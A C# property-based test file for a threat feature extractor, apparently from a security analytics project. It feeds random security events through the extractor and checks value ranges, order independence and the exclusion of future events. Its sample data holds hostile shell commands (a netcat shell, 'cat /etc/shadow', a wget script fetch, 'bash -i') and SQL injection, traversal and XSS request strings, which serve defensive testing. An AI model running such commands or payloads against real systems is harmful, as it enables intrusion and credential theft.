using System.Net;
using static Threat.Features.Tests.Make;

namespace Threat.Features.Tests;

public sealed class ExtractorPropertyTests
{
    private static readonly string[] Commands = ["ls -la", "wget http://x/a.sh", "sudo su", "bash -i", "cat /etc/shadow", "chmod 4755 x", "scp a b:c", "", "'\"`$(", "nc -e sh 1 2"];
    private static readonly string[] Targets = ["/", "/a?b=1", "/x?id=1%27%20or%201=1--", "/..%2f..%2f", "/?q=<script>", "/.env", "", "*", "/%", "/?%u0041=%zz"];

    /// <summary>Events of every kind with any values, over 15 days and a little into the future.</summary>
    private static readonly Gen<SecurityEvent> Event =
        from ticks in Gen.OneOf(Gen.Long[-TimeSpan.TicksPerHour, TimeSpan.TicksPerMinute * 10], Gen.Long[-TimeSpan.TicksPerDay * 15, 0], Gen.Long[-60, 0].Select(static s => s * TimeSpan.TicksPerSecond))
        from kind in Gen.Int[0, 6]
        from a in Gen.OneOf(Gen.Int[1, 2], Gen.Int[-1, 20])
        from b in Gen.OneOf(Gen.Int[1, 2], Gen.Int[-1, 65535])
        from big in Gen.Long[-1, 1L << 40]
        from small in Gen.Int[-1, 500]
        from state in Gen.Int[0, 13]
        from id in Gen.Int[0, 400]
        select Build(T.AddTicks(ticks), kind, a, b, big, small, state, id);

    private static readonly ThreatFeatureExtractor Extractor = new();

    [Test]
    public void Every_value_is_within_its_documented_range()
    {
        HashSet<int> seen = [];
        Event.Array[0, 120].Sample(events =>
        {
            FeatureVector v = Extractor.Extract(Source, events, T, new EntityContext { LiveSensors = events.Length % 2 == 0 ? SecurityEventKinds.All : null });
            for (int i = 0; i < v.Schema.Count; i++)
            {
                if (v.Statuses[i] != FeatureStatus.Ok) continue;
                FeatureDefinition d = v.Schema.Definitions[i];
                if (v.Values[i] < d.Minimum || v.Values[i] > d.Maximum) throw new InvalidDataException($"{d.Name} is {v.Values[i]}; allowed is {d.Minimum} to {d.Maximum}");
                lock (seen) seen.Add(i);
            }
        }, iter: 4000);
        // Sixteen come from intelligence and the graph: the next test.
        seen.Count.ShouldBe(84, $"of these some draw of events must make a valid value: {string.Join(", ", FeatureSchema.Threat100.Definitions.Where((_, i) => !seen.Contains(i)).Select(static d => d.Name))}");
    }

    /// <summary>Graphs of any shape, and readings at any place of their range.</summary>
    [Test]
    public void Every_value_of_the_graph_and_of_intelligence_is_within_its_documented_range()
    {
        HashSet<int> seen = [];
        IPAddress source = IPAddress.Parse("9.9.9.1");
        Gen.Select(Gen.Select(Gen.Int[0, 8], Gen.Int[0, 8]).Array[0, 30], Gen.Double[0, 1], Gen.Bool).Sample((edges, x, yes) =>
        {
            TenantContextBuilder tenant = new(T);
            foreach ((int a, int b) in edges) tenant.Add(new ConnectionEvent(Ago(5), a == 0 ? source : Host(a)) { Destination = b == 0 ? source : Host(b) });
            SourceIntelligence readings = new()
            {
                GeographicAnomaly = FeatureReading.Of(x),
                ReputationScore = FeatureReading.Of(x),
                ThreatIntelligenceMatch = FeatureReading.Of(yes),
                KnownBadAddress = FeatureReading.Of(yes),
                TorExitNow = FeatureReading.Of(yes),
                ProxyDetected = FeatureReading.Of(yes),
                AbuseIpDbScore = FeatureReading.Of(100 * x),
                TorExitRecently = FeatureReading.Of(yes),
                AsnReputation = FeatureReading.Of(x),
                DomainAgeDays = FeatureReading.Of(20_000 * x),
                ThreatIntelMatches = FeatureReading.Of(Math.Floor(30 * x)),
                KnownMalwareC2 = FeatureReading.Of(yes),
            };
            FeatureVector v = Extractor.Extract(source, [], T, tenant.Build(source, readings));
            for (int i = 0; i < v.Schema.Count; i++)
            {
                FeatureDefinition d = v.Schema.Definitions[i];
                if (v.Statuses[i] != FeatureStatus.Ok || d.Needs is not ("graph" or "intelligence")) continue;
                if (v.Values[i] < d.Minimum || v.Values[i] > d.Maximum) throw new InvalidDataException($"{d.Name} is {v.Values[i]}; allowed is {d.Minimum} to {d.Maximum}");
                lock (seen) seen.Add(i);
            }
        }, iter: 400);
        seen.Count.ShouldBe(16);
    }

    [Test]
    public void Order_and_repetition_change_nothing()
        => Gen.Select(Event.Array[0, 80], Gen.Int).Sample((events, seed) =>
        {
            SecurityEvent[] shuffled = [.. events, .. events.Where((_, i) => i % 3 == 0)];
            new Random(seed).Shuffle(shuffled);
            FeatureVector a = Extractor.Extract(Source, events, T), b = Extractor.Extract(Source, shuffled, T);
            return a.Values.SequenceEqual(b.Values) && a.Statuses.SequenceEqual(b.Statuses);
        }, iter: 500);

    [Test]
    public void What_happens_at_T_or_later_or_is_known_only_then_changes_nothing()
        => Event.Array[0, 60].Sample(events =>
        {
            SecurityEvent[] known = [.. events.Where(e => e.Time < T && !(e.IngestedAt >= T))];
            FeatureVector a = Extractor.Extract(Source, events, T, null, out ExtractionSummary summary), b = Extractor.Extract(Source, known, T);
            return a.Values.SequenceEqual(b.Values) && a.Statuses.SequenceEqual(b.Statuses) && summary.FutureEvents == events.Length - known.Length;
        }, iter: 300);

    private static SecurityEvent Build(DateTimeOffset time, int kind, int a, int b, long big, int small, int state, int id)
    {
        string? name = id < 350 ? $"{kind}-{id}-{time.Ticks}" : null;
        IPAddress? to = a < 0 ? null : a > 15 ? IPAddress.Parse("8.8.4." + a) : Host(a);
        int? port = b < 0 ? null : b;
        DateTimeOffset? ingested = small % 7 == 0 ? time.AddSeconds(small) : null;
        long? amount = big < 0 ? null : big;
        return kind switch
        {
            0 => new ConnectionEvent(time, Source)
            {
                Id = name,
                Sequence = small,
                Destination = to,
                DestinationPort = port,
                SourcePort = port,
                IngestedAt = ingested,
                Protocol = (TransportProtocol)(state * 3),
                State = (ConnectionState)state,
                Duration = small < 0 ? null : TimeSpan.FromSeconds(small * small % 5000),
                BytesSent = amount,
                BytesReceived = small < 0 ? null : small,
                PacketsSent = amount,
                PacketsReceived = small < 0 ? null : small,
                IpBytes = amount * 40,
            },
            1 => new AuthenticationEvent(time, Source) { Id = name, Sequence = small, Destination = to, IngestedAt = ingested, Outcome = (EventOutcome)(state % 3), UserName = a < 0 ? null : "u" + a, Credential = b % 2 == 0 ? Hasher.Hash("u" + a, "p" + state) : null },
            2 => new CommandEvent(time, Source, Commands[state % Commands.Length]) { Id = name, Sequence = small, IngestedAt = ingested, Outcome = (EventOutcome)(state % 3) },
            3 => new FileTransferEvent(time, Source, (TransferDirection)(state % 2)) { Id = name, Sequence = small, Resource = a < 0 ? null : "f" + a, Size = amount },
            4 => new HttpRequestEvent(time, Source, state % 2 == 0 ? "GET" : "M" + state, Targets[state % Targets.Length]) { Id = name, Sequence = small, Destination = to, DestinationPort = port },
            5 => new DnsEvent(time, Source, "a.example") { Id = name, Sequence = small, Destination = to },
            _ => new OtherEvent(time, Source, "alert") { Id = name, Sequence = small, Destination = to, DestinationPort = port },
        };
    }
}
